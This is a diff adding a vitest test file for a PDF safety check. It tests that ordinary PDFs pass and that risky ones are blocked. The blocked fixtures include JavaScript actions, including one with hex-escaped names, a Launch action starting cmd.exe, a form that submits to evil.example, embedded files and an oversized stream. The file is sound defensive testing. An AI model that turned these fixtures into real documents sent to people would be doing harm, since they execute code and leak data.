@@ -1,0 +1,61 @@
+import { randomBytes } from 'node:crypto';
+import { expect, it } from 'vitest';
+import { pdfFinding } from '#functions/documents/pdf.ts';
+import { receiptOf } from '#functions/messages/receipt.ts';
+import { receiptPdf } from '#functions/messages/receipt-pdf.ts';
+import { senderOf } from '#functions/messages/sender.ts';
+import { aPdf, aPdfStream } from '../../support/papers.ts';
+import { aTenant } from '../../support/people.ts';
+import { aTransfer } from '../../support/transfers.ts';
+
+it('a PDF as writers make it is fine: with pages, pictures, packed objects, and a receipt of our own (X-148)', async () => {
+  expect(pdfFinding(aPdf())).toBe('fine');
+  // What a picture holds is noise, in which any letters may come up.
+  const noise = Buffer.concat([randomBytes(200_000), Buffer.from(' /JS (x) /Launch '), randomBytes(200_000)]);
+  expect(pdfFinding(aPdf(aPdfStream('/Type /XObject /Subtype /Image', noise)))).toBe('fine');
+  expect(pdfFinding(aPdf(aPdfStream('/Type /ObjStm /N 1 /First 4', '5 0 << /Type /Page /Contents 6 0 R >>')))).toBe(
+    'fine',
+  );
+  // A link to a web page is on every contract; the words of a page may say what they like.
+  expect(pdfFinding(aPdf('4 0 obj\n<< /S /URI /URI (https://acme.example) >>\nendobj\n'))).toBe('fine');
+  expect(pdfFinding(aPdf('4 0 obj\n<< /Title (How to use /JavaScript in a PDF) /JSON 1 >>\nendobj\n'))).toBe('fine');
+  const sender = senderOf(aTenant());
+  const receipt = receiptOf(sender, aTransfer(), 'portal.example', { asOf: '2026-11-22T23:21:00.000Z' });
+  expect(pdfFinding(await receiptPdf(sender, receipt))).toBe('fine');
+});
+
+it.each([
+  ['a picture', Buffer.from([0x89, 0x50, 0x4e, 0x47])],
+  ['a page of the web', Buffer.from('<!doctype html><script>alert(1)</script>')],
+  ['a web page that ends like one', Buffer.from('<html>%PDF-1.7 %%EOF')],
+  ['one that was cut off on its way', aPdf().subarray(0, 120)],
+  ['nothing', Buffer.alloc(0)],
+])('%s is no PDF (X-148)', (_, file) => expect(pdfFinding(file)).toBe('none'));
+
+it.each([
+  ['a password', 'trailer\n<< /Encrypt 9 0 R >>\n'],
+  ['a script', '4 0 obj\n<< /S /JavaScript /JS (app.alert(1)) >>\nendobj\n'],
+  ['a script whose name is written otherwise', '4 0 obj\n<< /S /J#61vaScr#69pt >>\nendobj\n'],
+  ['a program to start', '4 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n'],
+  ['another file', '4 0 obj\n<< /Type /EmbeddedFile >>\nendobj\n'],
+  ['a form that sends', '4 0 obj\n<< /S /SubmitForm /F (https://evil.example) >>\nendobj\n'],
+  ['an XFA form', '4 0 obj\n<< /XFA [(a) 5 0 R] >>\nendobj\n'],
+  ['a film', '4 0 obj\n<< /Subtype /RichMedia >>\nendobj\n'],
+  ['a script in packed objects', aPdfStream('/Type /ObjStm /N 1 /First 4', '5 0 << /S /JavaScript /JS (x) >>')],
+  ['a script in objects packed twice', aPdfStream('/Type/ObjStm /N 1 /First 4', '5 0 << /S/JavaScript >>')],
+  [
+    'packed objects that do not open',
+    '4 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\nnoise\nendstream\nendobj\n',
+  ],
+  ['packed objects that fill a memory', aPdfStream('/Type /ObjStm', Buffer.alloc(80_000_000, 0x20))],
+])('a PDF with %s is not taken, because nobody who opens it would see it (X-148)', (_, more) =>
+  expect(pdfFinding(aPdf(more))).toBe('closed'),
+);
+
+it('a large PDF is read in a moment (X-148)', () => {
+  const pages = Array.from({ length: 2000 }, (_, at) => `${at + 10} 0 obj\n<< /Type /Page /At ${at} >>\nendobj\n`);
+  const file = aPdf(aPdfStream('/Type /XObject', randomBytes(9_000_000)), ...pages);
+  const before = performance.now();
+  expect(pdfFinding(file)).toBe('fine');
+  expect(performance.now() - before).toBeLessThan(3000);
+});
